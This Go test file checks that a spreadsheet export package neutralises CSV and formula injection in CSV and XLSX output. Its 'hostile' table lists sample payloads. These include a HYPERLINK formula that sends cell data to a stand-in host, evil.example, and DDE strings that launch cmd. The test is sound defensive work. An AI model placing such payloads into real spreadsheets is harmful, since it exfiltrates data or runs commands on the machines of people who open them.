package export

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

type status string

// hostile are texts a spreadsheet would run, or start to, with what CSV must write for them.
var hostile = []struct{ text, csv string }{
	{"=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"},
	{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"-", "'-"},
	{"=", "'="},
}

// harmless are texts written as they are.
var harmless = []string{"张三", "", "a=b", "1+1", " =1+1", "'=1+1", "＝1+1", "2026-12-01", "甲镇 - 东村", "e@mail"}

func TestCSVCell(t *testing.T) {
	for _, h := range hostile {
		if got := CSVCell(h.text); got != h.csv {
			t.Errorf("CSVCell(%q) = %q, want %q", h.text, got, h.csv)
		}
		if got := CSVCell(status(h.text)); got != h.csv {
			t.Errorf("CSVCell of a named string %q = %q", h.text, got)
		}
	}
	for _, s := range harmless {
		if got := CSVCell(s); got != s {
			t.Errorf("CSVCell(%q) = %q, want it as it is", s, got)
		}
	}
	for v, want := range map[any]string{-3: "-3", int64(-12): "-12", -0.5: "-0.5", 7: "7", uint8(0): "0", float32(-1.25): "-1.25"} {
		if got := CSVCell(v); got != want {
			t.Errorf("CSVCell(%v) = %q, want the number %q", v, got, want)
		}
	}
	if got := CSVCell(nil); got != "" {
		t.Errorf("CSVCell(nil) = %q", got)
	}
}

// A CSV read back gives every hostile text after its quote, every other cell as written.
func TestCSVIsSafe(t *testing.T) {
	var row []any
	var want []string
	for _, h := range hostile {
		row, want = append(row, h.text), append(want, h.csv)
	}
	for _, s := range harmless {
		row, want = append(row, s), append(want, s)
	}
	row, want = append(row, -3, 2.5), append(want, "-3", "2.5")
	b := CSV([][]any{row})
	if !bytes.HasPrefix(b, []byte("\uFEFF")) {
		t.Fatal("no byte-order mark")
	}
	got, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || strings.Join(got[0], "|") != strings.Join(want, "|") {
		t.Errorf("read back %q, want %q", got, want)
	}
	for _, cell := range got[0] {
		if formulaStart(cell) && cell != "-3" {
			t.Errorf("a cell begins with a formula character: %q", cell)
		}
	}
}

// In a workbook every text is a string cell holding exactly its text, numbers are numbers,
// and no cell has a formula.
func TestXLSXIsSafe(t *testing.T) {
	var row []any
	for _, h := range hostile {
		row = append(row, h.text, status(h.text))
	}
	for _, s := range harmless {
		row = append(row, s)
	}
	row = append(row, -3, -0.5, 42, true)
	b, err := XLSX(Sheet{Name: "表", Rows: [][]any{{"姓名"}, row}, Notes: []string{"=1+1 一条注释"}})
	if err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	for i, v := range row {
		cell, _ := excelize.CoordinatesToCellName(i+1, 2)
		typ, err := book.GetCellType("表", cell)
		if err != nil {
			t.Fatal(err)
		}
		got, _ := book.GetCellValue("表", cell, excelize.Options{RawCellValue: true})
		if f, _ := book.GetCellFormula("表", cell); f != "" {
			t.Errorf("%s (%q) has the formula %q", cell, v, f)
		}
		switch v.(type) {
		case int, float64:
			if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
				t.Errorf("%s: the number %v is a cell of type %v", cell, v, typ)
			}
		case bool:
			if typ != excelize.CellTypeBool {
				t.Errorf("%s: %v is a cell of type %v", cell, v, typ)
			}
		default:
			text := v
			if s, ok := v.(status); ok {
				text = string(s)
			}
			if s := text.(string); s != "" && (typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString) {
				t.Errorf("%s: the text %q is a cell of type %v", cell, s, typ)
			}
			if got != text {
				t.Errorf("%s holds %q, want %q", cell, got, text)
			}
		}
	}
	// No formula element anywhere in the workbook's sheets.
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		r, _ := f.Open()
		xml, _ := io.ReadAll(r)
		r.Close()
		if bytes.Contains(xml, []byte("<f>")) || bytes.Contains(xml, []byte("<f ")) {
			t.Errorf("%s holds a formula", f.Name)
		}
	}
}
